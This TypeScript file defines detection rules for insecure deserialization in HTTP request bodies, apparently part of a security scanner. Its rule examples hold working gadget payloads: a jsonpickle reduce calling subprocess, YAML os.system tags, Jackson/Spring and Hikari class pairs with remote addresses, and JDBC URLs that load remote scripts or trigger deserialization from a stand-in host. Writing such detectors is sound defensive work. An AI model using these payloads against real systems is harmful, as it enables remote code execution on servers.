import { confidence } from '../../placement/confidence.ts';
import { firstField, foundBy } from '../../placement/evidence.ts';
import { wordList } from '../../text/words.ts';
import type { Match, RequestMatch, RequestRule, ValueRule } from '../rule.ts';

/** Members by which jsonpickle and Oj make objects: `{"py/reduce": …}`, `{"^o": …}`. */
export const typedName: ValueRule = {
  id: 'deserialization.typed-name',
  cwe: 'CWE-502',
  severity: 'critical',
  score: confidence.strong,
  message: 'is a field from which the parser of the body creates an object or calls a function',
  trigger: { literals: [['py/', '^o', '^u']] },
  examples: [
    { body: { 'py/reduce': [{ 'py/function': 'subprocess.check_output' }, ['id']] } },
    { body: { '^o': 'Gem::Installer', io: 'x' } },
  ],
  lookalikes: [
    { body: { 'py/version': '3', 'copy/object': 'x' } },
    { body: { text: 'jsonpickle writes py/reduce and Oj writes ^o' } },
    { body: { '^oo^': 'cat' } },
  ],
  judge(subject): Match | undefined {
    if (subject.where !== 'name' || !typeMember.test(subject.text)) return undefined;
    return { start: 0, end: subject.text.length };
  },
};

const typeMember =
  /(?:^|\.)(?:py\/(?:object|reduce|type|function|newargs(?:ex)?|newobj|initargs|state|repr|mod)|\^[ou])$/;

/** Jackson's pair of a class and what it is made of: `["package.Class", "http://…"]`. */
export const typedPair: RequestRule = {
  id: 'deserialization.typed-pair',
  cwe: 'CWE-502',
  severity: 'critical',
  score: confidence.strong,
  message: 'pairs a class with an address or fields from which the parser would create an object',
  examples: [
    {
      body: {
        x: [
          'org.springframework.context.support.FileSystemXmlApplicationContext',
          'http://a.test/x',
        ],
      },
    },
    { body: { o: ['com.zaxxer.hikari.HikariConfig', { metricRegistry: 'ldap://a.test/x' }] } },
  ],
  lookalikes: [
    { body: { classes: ['com.example.shop.Cart', 'com.example.shop.Order'] } },
    { body: { sites: ['www.example.com', 'https://www.example.com/'] } },
    { body: { stack: ['com.example.Main', { line: 3 }] } },
  ],
  judgeRequest(request): RequestMatch | undefined {
    const { fields } = request;
    return firstField(fields, (one, index) => {
      if (one.where !== 'value' || one.node.key !== 0 || !className.test(one.text)) return false;
      const next = fields[index + 1];
      if (next?.node.parent === one.node.parent) return address.test(next?.text ?? '');
      const value = fields[index + 2];
      const isInside = next?.node.parent?.parent === one.node.parent && value?.node === next?.node;
      return isInside && address.test(value?.text ?? '');
    });
  },
};

const className = /^(?:[a-z][a-z0-9_]{0,30}\.){2,8}[A-Z]\w{0,60}$/;
const address = /^(?:jdbc:\w|(?:https?|ldaps?|rmi|ftp|file|jar):\/?\/)/i;

const directive = /^%TAG[ \t]{1,8}(![\w-]{0,40}!?)[ \t]{1,8}([^\s]{1,120})/gm;
/** The tags by which PyYAML, Psych, SnakeYAML and others make objects of their language. */
const languageTag =
  /^(?:tag:yaml\.org,2002:(?:python|ruby|perl|java|js)\/|tag:ruby\.yaml\.org,2002:|!ruby\/|tag:yaml\.org,2002:(?:java|javax|com|org|ch)\.\w)/;
const suffix = /[\w/:.%-]{0,80}/y;
const directivesMax = 8;

/** A handle of YAML (1.2.2, 6.8.2) that stands for the tag of a class. */
export const yamlHandle: ValueRule = {
  id: 'deserialization.yaml-handle',
  cwe: 'CWE-502',
  severity: 'critical',
  score: confidence.strong,
  message: 'gives a name of its own to a tag by which a parser of YAML makes objects',
  trigger: { literals: [['%TAG']] },
  examples: [
    '%TAG !h! tag:yaml.org,2002:\n---\n!h!python/object/apply:os.system ["ls"]',
    '%TAG ! tag:yaml.org,2002:python/\n---\n[1, !object/new:os.popen [ls]]',
    '%TAG !r! tag:ruby.yaml.org,2002:object:\n--- !r!Gem::Installer\ni: x',
  ],
  lookalikes: [
    '%TAG !e! tag:example.com,2000:app/\n---\n- !e!invoice {total: 3}',
    '%TAG !y! tag:yaml.org,2002:\n---\n!y!str python/object',
  ],
  judge({ text }): Match | undefined {
    let count = 0;
    for (const found of text.matchAll(directive)) {
      const [whole, handle = '', prefix = ''] = found;
      const match = taggedBehind(text, found.index + whole.length, handle, prefix);
      if (match !== undefined || ++count === directivesMax) return match;
    }
    return undefined;
  },
};

/** The first use of a handle for the tag of a class. */
function taggedBehind(
  text: string,
  from: number,
  handle: string,
  prefix: string,
): Match | undefined {
  for (let at = text.indexOf(handle, from); at >= 0; at = text.indexOf(handle, at + 1)) {
    suffix.lastIndex = at + handle.length;
    const name = suffix.exec(text)?.[0] ?? '';
    if (languageTag.test(prefix + name)) return { start: at, end: suffix.lastIndex };
  }
  return undefined;
}

/**
 * Properties by which a driver of JDBC reads objects of its server, makes a class, looks a name up
 * or runs a script.
 */
export const jdbcUrl: ValueRule = {
  id: 'deserialization.jdbc-url',
  cwe: 'CWE-502',
  severity: 'critical',
  score: confidence.strong,
  message: 'makes a database driver read objects, create classes or run a foreign script',
  trigger: {
    literals: [
      ['jdbc:', 'jndiname='],
      [
        ...wordList('autodeserialize statusdiff socketfactoryarg sslfactoryarg jndiname runscript'),
        'create alias',
        'loggerfile',
        ...wordList('allowurlinlocalinfile slavehost startmaster ::resource:'),
      ],
    ],
  },
  examples: [
    'jdbc:mysql://192.0.2.9/a?autoDeserialize=true&user=x',
    'jdbc:postgresql://a/b?socketFactory=c.D&socketFactoryArg=http://192.0.2.9/x.xml',
    'jdbc:db2://192.0.2.9:50000/a:clientRerouteServerListJNDIName=ldap://192.0.2.9/x;',
    'jdbc:derby:memory:x;startMaster=true;slaveHost=192.0.2.9',
    'jdbc:sqlite::resource:http://192.0.2.9/a.db',
    'SHOP:clientRerouteServerListJNDIName=rmi://192.0.2.9/x',
    "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://192.0.2.9/a.sql'",
  ],
  lookalikes: [
    'jdbc:mysql://db:3306/shop?useSSL=true&autoDeserialize=false',
    'jdbc:mysql:///shop?socketFactory=com.google.cloud.sql.mysql.SocketFactory',
    'jdbc:postgresql://db/shop?sslmode=require&loggerLevel=OFF',
    'clientRerouteServerListJNDIName=jdbc/routes',
    'What does autoDeserialize in a jdbc: address do?',
  ],
  judge(subject): Match | undefined {
    const found = property.exec(subject.text);
    if (found === null) return undefined;
    // The other properties mean something else elsewhere; the address may come in parts.
    const isAddress = subject.text.slice(0, found.index).includes('jdbc:');
    if (!isAddress && !jndiName.test(found[0])) return undefined;
    return foundBy(found);
  },
};

const jndiName = /^JNDIName=/i;
const property =
  /autoDeserialize=(?:true|yes|1)\b|ServerStatusDiffInterceptor|(?:socket|ssl)FactoryArg=(?:https?|file|ftp):|JNDIName=(?:ldaps?|rmi|iiop|dns):|INIT=(?:RUNSCRIPT|CREATE ALIAS)\b|allowUrlInLocalInfile=true\b|(?:slaveHost|startMaster)=|sqlite::resource:(?:https?|file|ftp):|loggerFile=[\w./\\-]{1,120}\.(?:jspx?|php|aspx?)\b/i;
